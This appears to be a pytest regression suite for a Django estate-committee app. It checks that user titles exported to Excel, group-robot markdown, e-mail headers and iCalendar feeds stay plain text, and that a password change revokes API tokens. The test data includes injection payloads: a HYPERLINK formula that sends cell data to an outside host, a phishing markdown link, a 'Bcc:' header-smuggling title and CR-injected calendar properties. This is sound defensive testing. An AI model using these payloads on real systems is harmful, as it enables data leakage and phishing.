"""Issue 22, rows 2, 5, 12, 13 and 15: user text pasted into another format (a spreadsheet, a group
robot's markdown, an e-mail header, an iCalendar feed) stays text there, and a password change ends the
user's API tokens. Each test makes the attack of its row through the same URL or job."""

import datetime
import io
import re
import zoneinfo

import pytest
from django.core import mail
from django.test import Client
from django.utils import timezone
from icalendar import Calendar
from openpyxl import load_workbook

from api.models import ApiToken
from followups import actions as issue_actions
from followups.scan import scan
from liaison import delivery, webhooks
from liaison.escaping import header_text, ical_text, robot_markdown, safe_cell
from liaison.models import AuditEntry, Delivery, GroupMessage, RobotWebhook
from meetings import actions as meeting_actions
from meetings.cadence_defaults import ensure_default_kinds

pytestmark = pytest.mark.django_db
SH = zoneinfo.ZoneInfo("Asia/Shanghai")


def at(*args):
    return datetime.datetime(*args, tzinfo=SH)


def _raise(estate, committee, title, *, raised_at=None, actor=None):
    raised_at = raised_at or at(2026, 3, 2, 10)
    return issue_actions.raise_issue(
        estate=estate,
        committee=committee,
        raised_by="张喆",
        raised_at=raised_at,
        description="地下车库B区渗水",
        source="meeting",
        title=title,
        actor=actor,
        now=raised_at + datetime.timedelta(minutes=1),
    )


# --- row 2: Excel formula injection ----------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://x?"&B2,"Click")'


def test_row2_a_formula_title_is_exported_as_text(client_for, director_a, estate_a, oc_a):
    issue = _raise(estate_a, oc_a, FORMULA)
    _raise(estate_a, oc_a, "@SUM(1+1)")
    _raise(estate_a, oc_a, "-2+3")
    r = client_for(director_a).get("/issues/export.xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    col = 9  # EXPORT_COLUMNS[8]: the subject (title)
    rows = {ws.cell(i, 1).value: ws.cell(i, col) for i in range(2, ws.max_row + 1)}
    cell = rows[issue.pk]
    assert cell.data_type == "s" and cell.value == FORMULA  # a string, shown as typed
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited
    titles = {c.value: c.data_type for c in rows.values()}
    assert titles == {FORMULA: "s", "@SUM(1+1)": "s", "-2+3": "s"}
    # nothing in the whole sheet is a formula
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert b"<f>" not in _sheet_xml(r.content)


def _sheet_xml(content):
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return z.read("xl/worksheets/sheet1.xml")


def test_row2_safe_cell_leaves_other_values_alone():
    assert safe_cell(3) == 3 and safe_cell(None) is None and safe_cell("漏水") == "漏水"
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        cell = safe_cell(text)
        assert cell.data_type == "s" and cell.value == text


# --- row 5: markdown injection into the group robot ------------------------------------------------------

PHISH = "[查看整改通知](http://x/phish)"


@pytest.mark.parametrize("provider", ["wecom", "dingtalk", "feishu"])
def test_row5_a_link_in_a_title_is_no_link_in_the_robot_message(estate_a, oc_a, director_a, provider):
    hook = RobotWebhook.objects.create(
        estate=estate_a, provider=provider, url="https://robot.example/hook", format="markdown"
    )
    _raise(estate_a, oc_a, PHISH)
    scan(at(2026, 3, 5, 10, 30))  # the reply deadline passed: the overdue message goes to the group
    message = GroupMessage.objects.get()
    assert Delivery.objects.filter(group_message=message, webhook=hook).exists()
    _url, payload = webhooks.build_request(hook, message.subject, message.body, delivery.absolute(message.url))
    text = _markdown_of(payload)
    assert "查看整改通知" in text  # the title is shown…
    assert "[查看整改通知]" not in text and "](http://x/phish)" not in text  # …but is no link
    links = re.findall(r"\[[^\]]*\]\(([^)]*)\)", text)
    assert all(link.startswith("http://testserver") or "/issues/" in link for link in links)  # only the portal's


def _markdown_of(payload):
    """The markdown fields of a robot payload (DingTalk's title and Feishu's header are plain text)."""
    if "markdown" in payload:
        return payload["markdown"].get("content") or payload["markdown"]["text"]
    return "\n".join(e["content"] for e in payload["card"]["elements"])


def test_row5_robot_markdown_escapes_format_characters():
    out = robot_markdown('# 标题\n**粗** `code` <font color="warning">x</font> ![i](http://x) > q')
    for ch in "#*`<>[]":
        assert ch not in out
    assert out.count("\n") == 1
    assert "\n" not in robot_markdown("a\nb", one_line=True)


# --- row 12: a newline in an issue title stops its e-mails ------------------------------------------------


def test_row12_a_newline_in_a_title_still_sends_a_one_line_subject(estate_a, oc_a, director_a, chair_a):
    director_a.email = "director@example.com"
    director_a.save()
    issue = _raise(estate_a, oc_a, "漏水\nBcc: x@y", actor=chair_a)
    assert Delivery.objects.filter(notification__recipient=director_a).exists()
    mail.outbox.clear()
    counts = delivery.deliver_pending(now=timezone.now())
    assert counts["sent"] >= 1 and counts["failed"] == 0 and counts["retry"] == 0
    (msg,) = [m for m in mail.outbox if m.to == ["director@example.com"]]
    assert "漏水 Bcc: x@y" in msg.subject and "\n" not in msg.subject and "\r" not in msg.subject
    assert msg.bcc == []
    raw = msg.message()
    assert raw["Bcc"] is None and "x@y" not in (raw["To"] + (raw["Cc"] or ""))
    assert "\n" not in raw["Subject"].replace("\n ", "").replace("\r", "")  # (folded lines are one header)
    assert issue.pk


def test_row12_header_text():
    assert header_text("a\r\nb\x00c\u2028d\te") == "a b c d e"


# --- row 13: a bare CR in the iCalendar feed ---------------------------------------------------------------


def test_row13_a_bare_cr_in_a_meeting_title_injects_no_property(client, estate_a, oc_a, director_a):
    kinds = ensure_default_kinds()
    now = timezone.now()
    title = "Cal\rURL:http://x\rX-INJ:1"
    meeting = meeting_actions.create_meeting(
        estate=estate_a,
        committee=oc_a,
        kind=kinds["oc_routine"],
        title=title,
        starts_at=now + datetime.timedelta(days=10),
        ends_at=now + datetime.timedelta(days=10, hours=2),
        place="会议室\rX-PLACE:1",
        actor=director_a,
        now=now,
    )
    client.force_login(director_a)
    feed_url = client.get("/meetings/calendar/").context["feed_url"].split("testserver", 1)[1]
    client.logout()
    body = Client().get(feed_url).content.decode()
    lines = re.split(r"\r\n|\r|\n", body)  # as a parser splitting on any line end sees it
    assert not [line for line in lines if line.startswith(("URL:http://x", "X-INJ", "X-PLACE", "BEGIN:VALARM"))]
    assert "\r" not in body.replace("\r\n", "")  # no bare CR at all
    (event,) = Calendar.from_ical(body).events
    assert str(event["summary"]) == "Cal\nURL:http://x\nX-INJ:1"  # the CRs as (escaped) line breaks
    assert str(event["location"]) == "会议室\nX-PLACE:1"
    assert str(event["uid"]).startswith(str(meeting.uid))


def test_row13_ical_text():
    assert ical_text("a\rb\r\nc\x07") == "a\nb\nc "
    assert ical_text("a\rb\r\nc", one_line=True) == "a b c"
    assert ical_text(None) is None


# --- row 15: API tokens survive a password change --------------------------------------------------------


def test_row15_a_password_change_ends_the_api_tokens(director_a, password):
    _token, raw = ApiToken.create_for(director_a, "OA")
    api = Client()
    assert api.get("/api/me/", HTTP_AUTHORIZATION=f"Bearer {raw}").status_code == 200
    portal = Client()
    assert portal.login(username=director_a.username, password=password)
    r = portal.post(
        "/password/",
        {"old_password": password, "new_password1": "Xq7-新密码-2026!", "new_password2": "Xq7-新密码-2026!"},
    )
    assert r.status_code == 302, r.content
    assert api.get("/api/me/", HTTP_AUTHORIZATION=f"Bearer {raw}").status_code == 401
    assert AuditEntry.objects.filter(action="api_token_revoked", actor_label="password_changed").count() == 1
    # a token made after the change works
    _token, fresh = ApiToken.create_for(director_a, "OA 2")
    assert api.get("/api/me/", HTTP_AUTHORIZATION=f"Bearer {fresh}").status_code == 200
    # other saves of the user (e.g. the login's last_login) revoke nothing
    director_a.refresh_from_db()
    director_a.name = "王主任（改）"
    director_a.save()
    assert portal.login(username=director_a.username, password="Xq7-新密码-2026!")
    assert api.get("/api/me/", HTTP_AUTHORIZATION=f"Bearer {fresh}").status_code == 200


def test_row15_disabling_an_account_ends_its_tokens(director_a):
    _token, raw = ApiToken.create_for(director_a, "OA")
    director_a.is_active = False
    director_a.save()
    director_a.is_active = True
    director_a.save()  # switched on again: the old token stays revoked
    assert Client().get("/api/me/", HTTP_AUTHORIZATION=f"Bearer {raw}").status_code == 401
    assert ApiToken.objects.active().count() == 0
